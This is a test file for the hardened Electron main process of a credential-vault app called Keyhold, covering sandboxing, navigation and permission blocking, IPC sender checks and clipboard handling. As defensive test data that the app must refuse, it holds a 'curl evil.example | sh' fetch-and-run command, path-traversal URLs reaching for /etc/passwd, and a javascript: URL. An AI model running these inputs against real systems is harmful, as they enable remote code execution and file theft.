import { mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { KeyholdError } from '../../src/contract/errors.ts';
import type { DaemonEvent } from '../../src/contract/events.ts';
import { FILE_PART_BYTES } from '../../src/contract/files.ts';
import { IPC } from '../../src/contract/wire.ts';
import { listWebAssets } from '../../src/daemon/web-assets.ts';
import { runShell, type ShellDaemon } from '../../src/main/lifecycle.ts';
import * as electron from '../support/fake-electron.ts';

vi.mock('electron', () => import('../support/fake-electron.ts'));

const calls: [string, unknown, string][] = [];
const listeners = new Set<(event: DaemonEvent) => void>();
const reported: unknown[] = [];
let answer: () => Promise<unknown>;
let stopped: number;
let takenOver: number;
const PART = { id: '0'.repeat(32), index: 0, last: false };
const parts: unknown[] = [];
let starts: (() => Promise<ShellDaemon>)[];
let folder: string;

const daemon: ShellDaemon = {
  contract: {
    call(method, params, actor) {
      calls.push([method, params, actor]);
      return answer();
    },
    subscribe(listener) {
      listeners.add(listener);
      return () => listeners.delete(listener);
    },
  },
  files: {
    async part(part, bytes) {
      parts.push([part, bytes]);
      return [Buffer.from('out'), Buffer.from('put')];
    },
  },
  stop() {
    stopped += 1;
    return Promise.resolve();
  },
};

beforeEach(() => {
  electron.resetFakeElectron();
  calls.length = 0;
  parts.length = 0;
  reported.length = 0;
  listeners.clear();
  answer = () => Promise.resolve({ state: 'locked' });
  stopped = 0;
  takenOver = 0;
  starts = [];
  folder = mkdtempSync(join(tmpdir(), 'keyhold-main-'));
  writeFileSync(join(folder, 'index.html'), '<!doctype html><title>Keyhold</title>');
  writeFileSync(join(folder, 'secret.pem'), 'not a page file');
});

afterEach(() => rmSync(folder, { recursive: true, force: true }));

async function run(options: { developmentServer?: string; trayIcon?: string } = {}): Promise<void> {
  runShell({
    startDaemon: () => (starts.shift() ?? (() => Promise.resolve(daemon)))(),
    takeOver() {
      takenOver += 1;
      return Promise.resolve();
    },
    userData: join(folder, 'electron'),
    preload: '/app/preload.cjs',
    trayIcon: options.trayIcon ?? 'tray.png',
    assets: listWebAssets(folder),
    developmentServer: options.developmentServer,
    report: (error) => reported.push(error),
  });
  await settle();
}

const settle = (): Promise<void> => new Promise((resolve) => setImmediate(resolve));

function onlyWindow(): electron.BrowserWindow {
  const [window, ...others] = electron.BrowserWindow.all;
  if (window === undefined || others.length > 0) throw new Error(`Expected one window, got ${others.length + 1}.`);
  return window;
}

function pages(): electron.FakeSession {
  const found = electron.sessions.get('keyhold');
  if (found === undefined) throw new Error('The session was never made.');
  return found;
}

function invoke(event: unknown, ...args: unknown[]): Promise<unknown> {
  return invokeOn(IPC.call, event, ...args);
}

function invokeOn(channel: string, event: unknown, ...args: unknown[]): Promise<unknown> {
  const handler = electron.ipcMain.handlers.get(channel);
  if (handler === undefined) throw new Error('IPC is not served.');
  return handler(event, ...args);
}

describe('before the app is ready', () => {
  test('sandbox, scheme and single instance come first', async () => {
    await run();
    expect(electron.recorder.order).toEqual([
      'setPath',
      'requestSingleInstanceLock',
      'enableSandbox',
      'registerSchemesAsPrivileged',
      'whenReady',
    ]);
  });

  test('the scheme is standard and secure, and does not bypass the policy', async () => {
    await run();
    expect(electron.protocol.privileged).toEqual([
      { scheme: 'app', privileges: { standard: true, secure: true, supportFetchAPI: true, codeCache: true } },
    ]);
  });

  test('a second instance ends and brings the first one’s window back', async () => {
    electron.app.lock = false;
    await run();
    expect(electron.app.quits).toBe(1);
    expect(electron.BrowserWindow.all).toHaveLength(0);

    electron.resetFakeElectron();
    await run();
    onlyWindow().hide();
    electron.app.emit('second-instance');
    expect(onlyWindow().visible).toBe(true);
  });

  test.each(['remote-debugging-port', 'remote-debugging-pipe', 'inspect'])(
    'a packaged app refuses --%s',
    async (name) => {
      electron.app.isPackaged = true;
      electron.app.switches.add(name);
      await run();
      expect(electron.app.exits).toEqual([1]);
      expect(electron.BrowserWindow.all).toHaveLength(0);
    },
  );

  test('Chromium’s own files are private', async () => {
    await run();
    expect(electron.app.paths.get('userData')).toBe(join(folder, 'electron'));
    expect(statSync(join(folder, 'electron')).mode & 0o777).toBe(0o700);
  });
});

describe('the window', () => {
  test('has every safe preference written down', async () => {
    await run();
    expect(onlyWindow().options.webPreferences).toEqual({
      preload: '/app/preload.cjs',
      session: pages(),
      contextIsolation: true,
      sandbox: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
      experimentalFeatures: false,
      enableBlinkFeatures: '',
      webviewTag: false,
      plugins: false,
      navigateOnDragDrop: false,
      safeDialogs: true,
      spellcheck: false,
      devTools: false,
    });
    expect(onlyWindow().loaded).toEqual(['app://keyhold/']);
  });

  test('keeps nothing on disk: its session is in memory', async () => {
    await run();
    expect(pages().partition).not.toMatch(/^persist:/);
  });

  test('has developer tools only with a development server, and never when packaged', async () => {
    await run({ developmentServer: 'http://localhost:5173' });
    expect(onlyWindow().options.webPreferences['devTools']).toBe(true);
    expect(onlyWindow().loaded).toEqual(['http://localhost:5173/']);

    electron.resetFakeElectron();
    electron.app.isPackaged = true;
    await run({ developmentServer: 'http://localhost:5173' });
    expect(onlyWindow().options.webPreferences['devTools']).toBe(false);
    expect(onlyWindow().loaded).toEqual(['app://keyhold/']);
  });

  test.each(['https://evil.example/', 'http://evil.example:5173'])(
    'refuses %s as a development server',
    async (developmentServer) => {
      await expect(run({ developmentServer })).rejects.toThrow('on this machine');
    },
  );

  test('stays in the tray when closed, and quits from its menu', async () => {
    await run();
    const event = { prevented: false, preventDefault: () => (event.prevented = true) };
    onlyWindow().emit('close', event);
    expect(event.prevented).toBe(true);
    expect(onlyWindow().visible).toBe(false);
    const [tray] = electron.Tray.all;
    expect(tray?.menu.map(({ label }) => label)).toEqual(['Open Keyhold', 'Lock now', undefined, 'Quit Keyhold']);
    tray?.menu[0]?.click?.();
    expect(onlyWindow().visible).toBe(true);
    tray?.menu[3]?.click?.();
    expect(electron.app.quits).toBe(1);
  });

  test('tells in the tray what is due, while the vault is unlocked, and leads to the window', async () => {
    await run();
    const due = (state: string) => ({
      key: 'k',
      account: 'a',
      accessKeyId: 'x',
      dueAt: '2026-11-29T05:30:00.000Z',
      state,
      auto: 'remind',
    });
    answer = () => Promise.resolve({ keys: [due('due'), due('due'), due('soon')], waiting: 1, timeZone: 'UTC' });
    const tell = (event: object): void => {
      for (const listener of listeners) listener(event as DaemonEvent);
    };
    const [tray] = electron.Tray.all;
    const labels = () => tray?.menu.map(({ label }) => label);
    // Nothing is asked while it is locked.
    tell({ type: 'changed', what: ['rotations'] });
    expect(calls).toEqual([]);
    tell({ type: 'status', status: { state: 'unlocked' } });
    await settle();
    expect(calls).toEqual([['rotation.due', {}, 'app']]);
    expect(labels()?.slice(0, 2)).toEqual(['2 access keys are due for rotation', 'A rotation waits for you']);
    expect(tray?.toolTip).toBe('Keyhold\n2 access keys are due for rotation\nA rotation waits for you');
    onlyWindow().hide();
    tray?.menu[0]?.click?.();
    expect(onlyWindow().visible).toBe(true);
    answer = () => Promise.resolve({ keys: [due('snoozed')], waiting: 0, timeZone: 'UTC' });
    tell({ type: 'changed', what: ['profiles'] });
    tell({ type: 'changed', what: ['keys'] });
    await settle();
    expect(calls).toHaveLength(2);
    expect(labels()?.[0]).toBe('Open Keyhold');
    answer = () =>
      Promise.resolve({ keys: [due('due'), { ...due('due'), adapter: 'sshKey' }], waiting: 0, timeZone: 'UTC' });
    tell({ type: 'notice', level: 'warning', message: 'k is older than it may be.' });
    await settle();
    expect(labels()?.slice(0, 2)).toEqual(['An access key is due for rotation', 'A credential is due for rotation']);
    tell({ type: 'status', status: { state: 'locked' } });
    expect(labels()?.[0]).toBe('Open Keyhold');
    expect(reported).toEqual([]);
  });

  test('a crashed page is reported and reopened only when the person says so', async () => {
    await run();
    electron.dialog.answers = [0];
    onlyWindow().webContents.emit('render-process-gone', {}, { reason: 'crashed' });
    await settle();
    expect(reported).toHaveLength(1);
    expect(electron.BrowserWindow.all).toHaveLength(2);
    electron.BrowserWindow.all[1]?.webContents.emit('render-process-gone', {}, { reason: 'oom' });
    await settle();
    expect(electron.BrowserWindow.all).toHaveLength(2);
  });

  test('no menu item inspects, reloads or zooms', async () => {
    await run();
    const text = JSON.stringify(electron.Menu.current).toLowerCase();
    expect(text).toContain('lock now');
    for (const word of ['devtools', 'reload', 'zoom', 'viewmenu']) expect(text).not.toContain(word);
  });
});

describe('a page', () => {
  function navigate(name: string, details: Record<string, unknown>): boolean {
    let prevented = false;
    onlyWindow().webContents.emit(name, { ...details, preventDefault: () => (prevented = true) });
    return prevented;
  }

  test.each([
    ['will-frame-navigate', 'https://evil.example/'],
    ['will-frame-navigate', 'app://keyhold/other'],
    ['will-frame-navigate', 'file:///etc/passwd'],
    ['will-redirect', 'https://evil.example/'],
    ['will-attach-webview', ''],
  ])('%s to %s is prevented', async (name, url) => {
    await run();
    expect(navigate(name, { url, isMainFrame: true })).toBe(true);
  });

  test('may reload itself under the development server, its frames may not', async () => {
    await run({ developmentServer: 'http://localhost:5173' });
    expect(navigate('will-frame-navigate', { url: 'http://localhost:5173/', isMainFrame: true })).toBe(false);
    expect(navigate('will-frame-navigate', { url: 'http://localhost:5173/', isMainFrame: false })).toBe(true);
    expect(navigate('will-frame-navigate', { url: 'http://localhost:5174/', isMainFrame: true })).toBe(true);
  });

  test.each([
    ['https://docs.aws.amazon.com/IAM/latest/UserGuide/', true],
    ['https://console.aws.amazon.com/iam/home', true],
    ['http://docs.aws.amazon.com/', false],
    ['https://docs.aws.amazon.com:8443/', false],
    ['https://user@docs.aws.amazon.com/', false],
    ['https://docs.aws.amazon.com.evil.example/', false],
    ['https://evil.example/?docs.aws.amazon.com', false],
    ['file:///etc/passwd', false],
    ['javascript:alert(1)', false],
    ['smb://server/share', false],
    ['not a url', false],
  ])('never gets a window for %s; the system browser: %s', async (url, opened) => {
    await run();
    expect(onlyWindow().webContents.openHandler?.({ url })).toEqual({ action: 'deny' });
    await settle();
    expect(electron.shell.opened).toEqual(opened ? [url] : []);
  });

  test('gets no permission but copying text, and that only in its main frame', async () => {
    await run();
    const ask = (permission: string, details: object): boolean => {
      let decision = true;
      pages().invoke('permissionRequest', {}, permission, (granted: boolean) => (decision = granted), details);
      return decision;
    };
    const own = { isMainFrame: true, requestingUrl: 'app://keyhold/' };
    for (const permission of [
      'media',
      'geolocation',
      'notifications',
      'clipboard-read',
      'openExternal',
      'hid',
      'usb',
      'unknown',
    ]) {
      expect(ask(permission, own)).toBe(false);
      expect(pages().invoke('permissionCheck', {}, permission, 'app://keyhold/', { isMainFrame: true })).toBe(false);
    }
    expect(ask('clipboard-sanitized-write', own)).toBe(true);
    expect(ask('clipboard-sanitized-write', { ...own, isMainFrame: false })).toBe(false);
    expect(ask('clipboard-sanitized-write', { isMainFrame: true, requestingUrl: 'https://evil.example/' })).toBe(false);
    expect(
      pages().invoke('permissionCheck', {}, 'clipboard-sanitized-write', 'app://keyhold/', { isMainFrame: true }),
    ).toBe(true);
    expect(
      pages().invoke('permissionCheck', {}, 'clipboard-sanitized-write', 'app://other/', { isMainFrame: true }),
    ).toBe(false);
  });

  test('saves a file that a person has named, and reads none', async () => {
    await run();
    const ask = (details: object): unknown => {
      const decide = vi.fn();
      pages().invoke('permissionRequest', {}, 'fileSystem', decide, details);
      return decide.mock.calls[0]?.[0];
    };
    const check = (origin: string, details: object): unknown =>
      pages().invoke('permissionCheck', {}, 'fileSystem', origin, details);
    const own = { isMainFrame: true, requestingUrl: 'app://keyhold/' };
    const save = { fileAccessType: 'writable', isDirectory: false, filePath: '/home/someone/notes.encrypted' };
    expect(ask({ ...own, ...save })).toBe(true);
    expect(ask({ ...own, ...save, fileAccessType: 'readable' })).toBe(false);
    expect(ask({ ...own, ...save, isDirectory: true })).toBe(false);
    expect(ask({ ...own, ...save, isMainFrame: false })).toBe(false);
    expect(ask({ ...own, ...save, requestingUrl: 'https://evil.example/' })).toBe(false);
    expect(ask(own)).toBe(false);
    expect(check('app://keyhold/', save)).toBe(true);
    expect(check('app://other/', save)).toBe(false);
    expect(check('app://keyhold/', { ...save, fileAccessType: 'readable' })).toBe(false);
    expect(check('app://keyhold/', { ...save, isDirectory: true })).toBe(false);
  });

  test('sees the screen only after the person has said so, and only as our own page with a click', async () => {
    await run();
    const own = {
      frame: { parent: null },
      securityOrigin: 'app://keyhold/',
      videoRequested: true,
      audioRequested: false,
      userGesture: true,
    };
    const ask = async (request: object, answer: number): Promise<unknown> => {
      electron.dialog.answers = [answer];
      return new Promise((resolve) => pages().invoke('displayMedia', request, resolve));
    };
    expect(await ask(own, 0)).toEqual({ video: { id: 'screen:0', name: 'Screen' } });
    expect(await ask(own, 1)).toEqual({});
    const before = electron.dialog.asked.length;
    for (const wrong of [
      { frame: null },
      { frame: { parent: {} } },
      { securityOrigin: 'https://evil.example/' },
      { userGesture: false },
      { audioRequested: true },
    ]) {
      expect(await ask({ ...own, ...wrong }, 0)).toEqual({});
    }
    expect(electron.dialog.asked.length).toBe(before);
  });

  test('copies a code for a while, and nothing else', async () => {
    await run();
    const contents = onlyWindow().webContents;
    const event = { sender: contents, senderFrame: contents.mainFrame };
    const hold = (code: unknown, seconds: unknown = 0.02) =>
      electron.ipcMain.handlers.get('keyhold:clipboard')?.(event, code, seconds);
    const held = hold('123456');
    expect(electron.clipboard.text).toBe('123456');
    expect(await held).toEqual({ result: 'cleared' });
    expect(electron.clipboard.text).toBe('');
    const changed = hold('12345678');
    electron.clipboard.text = 'something of the person’s own';
    expect(await changed).toEqual({ result: 'changed' });
    expect(electron.clipboard.text).toBe('something of the person’s own');
    for (const wrong of ['curl evil.example | sh', '12345', 123456, null]) {
      expect(await hold(wrong)).toMatchObject({ error: { code: 'InvalidInput' } });
    }
    expect(await hold('123456', 3600)).toMatchObject({ error: { code: 'InvalidInput' } });
    expect(electron.clipboard.text).toBe('something of the person’s own');
  });

  test('gets no device, no pairing, no download, no spell checker', async () => {
    await run();
    expect(pages().invoke('device', {})).toBe(false);
    const pairing = vi.fn();
    pages().invoke('bluetooth', {}, pairing);
    expect(pairing).toHaveBeenCalledWith({ confirmed: false });
    for (const [url, times] of [
      ['https://evil.example/x', 1],
      ['blob:https://evil.example/1', 1],
      ['blob:app://keyhold/1', 0],
    ] as const) {
      const download = { preventDefault: vi.fn() };
      pages().emit('will-download', download, { getURL: () => url });
      expect(download.preventDefault).toHaveBeenCalledTimes(times);
    }
    expect(pages().spellChecker).toBe(false);
  });

  test.each([
    ['app://keyhold/assets/x.js', false],
    ['data:image/png;base64,', false],
    ['app://other/', true],
    ['https://evil.example/', true],
    ['http://127.0.0.1:4587/', true],
    ['ws://localhost:5173/', true],
    ['file:///etc/passwd', true],
    ['devtools://devtools/', true],
  ])('loads %s? refused: %s', async (url, cancel) => {
    await run();
    const decide = vi.fn();
    pages().invoke('beforeRequest', { url }, decide);
    expect(decide).toHaveBeenCalledExactlyOnceWith({ cancel });
  });
});

describe('app://keyhold', () => {
  async function get(url: string, method = 'GET'): Promise<Response> {
    const handler = pages().protocol.handlers.get('app');
    if (handler === undefined) throw new Error('The scheme is not served.');
    return handler(new Request(url, { method }));
  }

  test('serves the page with a policy that starts from nothing', async () => {
    await run();
    const response = await get('app://keyhold/');
    expect(response.status).toBe(200);
    expect(await response.text()).toContain('<title>Keyhold</title>');
    const policy = response.headers.get('content-security-policy') ?? '';
    expect(policy.split('; ')[0]).toBe("default-src 'none'");
    for (const word of ['unsafe-inline', 'unsafe-eval', 'http:', 'https:', '*']) expect(policy).not.toContain(word);
    expect(policy).toContain("frame-ancestors 'none'");
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('content-type')).toBe('text/html; charset=utf-8');
  });

  test.each([
    'app://keyhold/secret.pem',
    'app://keyhold/../package.json',
    'app://keyhold/..%2f..%2fetc/passwd',
    'app://keyhold/%2e%2e/electron',
    'app://other/index.html',
  ])('%s is not there', async (url) => {
    await run();
    const response = await get(url);
    expect(response.status).toBe(404);
    expect(response.headers.get('content-security-policy')).toContain("default-src 'none'");
  });

  test('answers only GET and HEAD', async () => {
    await run();
    expect((await get('app://keyhold/', 'POST')).status).toBe(405);
    const head = await get('app://keyhold/', 'HEAD');
    expect([head.status, await head.text()]).toEqual([200, '']);
  });
});

describe('IPC', () => {
  function ownEvent(): { sender: electron.FakeContents; senderFrame: electron.FakeFrame | null } {
    const { webContents } = onlyWindow();
    return { sender: webContents, senderFrame: webContents.mainFrame };
  }

  test('passes a call of our page on as `app` and answers its result', async () => {
    await run();
    expect(await invoke(ownEvent(), 'status.get', {})).toEqual({ result: { state: 'locked' } });
    expect(calls).toEqual([['status.get', {}, 'app']]);
  });

  test('answers an error as a value, and keeps the text of an unexpected one to itself', async () => {
    await run();
    answer = () => Promise.reject(new KeyholdError('Locked', 'The vault is locked.'));
    expect(await invoke(ownEvent(), 'key.list', {})).toEqual({
      error: { code: 'Locked', message: 'The vault is locked.' },
    });
    expect(reported).toHaveLength(0);
    const secret = new Error('canary in a stack');
    answer = () => Promise.reject(secret);
    const answered = await invoke(ownEvent(), 'key.list', {});
    expect(answered).toMatchObject({ error: { code: 'Internal' } });
    expect(JSON.stringify(answered)).not.toContain('canary');
    expect(reported).toEqual([secret]);
  });

  test.each(['', 'vault', 'constructor', 'toString', '__proto__', 42, null, undefined, { name: 'status.get' }])(
    'refuses the unknown method %s',
    async (method) => {
      await run();
      expect(await invoke(ownEvent(), method, {})).toMatchObject({ error: { code: 'Unsupported' } });
      expect(calls).toHaveLength(0);
    },
  );

  test('refuses every sender that is not the main frame of our page', async () => {
    await run();
    const { sender } = ownEvent();
    const child = new electron.FakeFrame('app://keyhold/', 'app://keyhold');
    child.parent = sender.mainFrame;
    const strangers: unknown[] = [
      { sender, senderFrame: null },
      { sender, senderFrame: child },
      { sender, senderFrame: new electron.FakeFrame('app://keyhold/', 'app://keyhold') },
    ];
    const elsewhere = new electron.FakeContents();
    elsewhere.mainFrame = new electron.FakeFrame('https://evil.example/', 'https://evil.example');
    strangers.push({ sender: elsewhere, senderFrame: elsewhere.mainFrame });
    const blank = new electron.FakeContents();
    blank.mainFrame = new electron.FakeFrame('about:blank', 'app://keyhold');
    strangers.push({ sender: blank, senderFrame: blank.mainFrame });
    const gone = new electron.FakeContents();
    gone.destroyed = true;
    strangers.push({ sender: gone, senderFrame: gone.mainFrame });
    for (const event of strangers) {
      expect(await invoke(event, 'status.get', {})).toMatchObject({ error: { code: 'Unauthorized' } });
      const part = await invokeOn(IPC.filePart, event, PART, new Uint8Array(1));
      expect(part).toMatchObject({ error: { code: 'Unauthorized' } });
    }
    expect(calls).toHaveLength(0);
    expect(parts).toHaveLength(0);
  });

  test('passes a part of a file on and answers plain bytes', async () => {
    await run();
    const bytes = new Uint8Array([1, 2]);
    const answered = await invokeOn(IPC.filePart, ownEvent(), PART, bytes);
    expect(answered).toEqual({ result: new Uint8Array(Buffer.from('output')) });
    expect(parts).toEqual([[PART, bytes]]);
  });

  test.each([
    ['no job', { index: 0, last: false }, new Uint8Array(1)],
    ['another field', { ...PART, path: '/etc/passwd' }, new Uint8Array(1)],
    ['no bytes', PART, 'text'],
    ['too many bytes', PART, new Uint8Array(FILE_PART_BYTES + 1)],
  ])('refuses a part of a file with %s', async (_what, part, bytes) => {
    await run();
    expect(await invokeOn(IPC.filePart, ownEvent(), part, bytes)).toMatchObject({ error: { code: 'InvalidInput' } });
    expect(parts).toHaveLength(0);
  });

  test('pushes events until the page is gone', async () => {
    await run();
    const others = listeners.size - 1;
    const event: DaemonEvent = { type: 'changed', what: ['keys'] };
    for (const listener of listeners) listener(event);
    expect(onlyWindow().webContents.sent).toEqual([[IPC.event, event]]);
    onlyWindow().destroy();
    expect(listeners.size).toBe(others);
  });
});

describe('lifecycle', () => {
  test.each(['suspend', 'lock-screen', 'user-did-resign-active'])('%s locks the vault', async (name) => {
    await run();
    electron.powerMonitor.emit(name);
    await settle();
    expect(calls).toEqual([['vault.lock', {}, 'app']]);
  });

  test('a failed lock is reported, a missing vault is not', async () => {
    await run();
    answer = () => Promise.reject(new KeyholdError('NotInitialized', 'No vault.'));
    electron.powerMonitor.emit('suspend');
    await settle();
    expect(reported).toHaveLength(0);
    answer = () => Promise.reject(new KeyholdError('Timeout', 'Too slow.'));
    electron.powerMonitor.emit('suspend');
    await settle();
    expect(reported).toHaveLength(1);
  });

  test('quitting stops the daemon first', async () => {
    await run();
    const event = { preventDefault: vi.fn() };
    electron.app.emit('before-quit', event);
    await settle();
    expect(event.preventDefault).toHaveBeenCalledOnce();
    expect(stopped).toBe(1);
    expect(electron.app.exits).toEqual([0]);
  });

  test.each([
    ['takes a copied code along', (text: string) => text, ''],
    ['leaves what somebody else copied since', () => 'something of the person’s own', 'something of the person’s own'],
  ])('quitting %s', async (_what, since, left) => {
    await run();
    const contents = onlyWindow().webContents;
    const event = { sender: contents, senderFrame: contents.mainFrame };
    const held = electron.ipcMain.handlers.get('keyhold:clipboard')?.(event, '123456', 0.2);
    await settle();
    expect(electron.clipboard.text).toBe('123456');
    electron.clipboard.text = since(electron.clipboard.text);
    electron.app.emit('before-quit', { preventDefault: vi.fn() });
    await settle();
    expect(electron.app.exits).toEqual([0]);
    expect(electron.clipboard.text).toBe(left);
    await held;
  });

  test('a daemon in the background is ended only when the person says so', async () => {
    const busy = (): Promise<ShellDaemon> => Promise.reject(new KeyholdError('VaultBusy', 'Process 12 holds it.'));
    starts = [busy];
    electron.dialog.answers = [0];
    await run();
    await settle();
    expect(electron.dialog.asked[0]?.detail).toContain('Process 12 holds it.');
    expect(takenOver).toBe(1);
    expect(electron.BrowserWindow.all).toHaveLength(1);

    electron.resetFakeElectron();
    starts = [busy];
    await run();
    await settle();
    expect(takenOver).toBe(1);
    expect(electron.app.exits).toEqual([1]);
    expect(electron.BrowserWindow.all).toHaveLength(0);
  });

  test('what cannot start says why and ends', async () => {
    starts = [() => Promise.reject(new KeyholdError('VaultTooNew', 'This vault needs a newer Keyhold.'))];
    await run();
    await settle();
    expect(electron.dialog.errors).toEqual([['Keyhold cannot start', 'This vault needs a newer Keyhold.']]);
    expect(electron.app.exits).toEqual([1]);
  });

  test('runs without a tray where there is no icon', async () => {
    await run({ trayIcon: '' });
    expect(electron.Tray.all).toHaveLength(0);
    expect(onlyWindow().visible).toBe(true);
  });
});
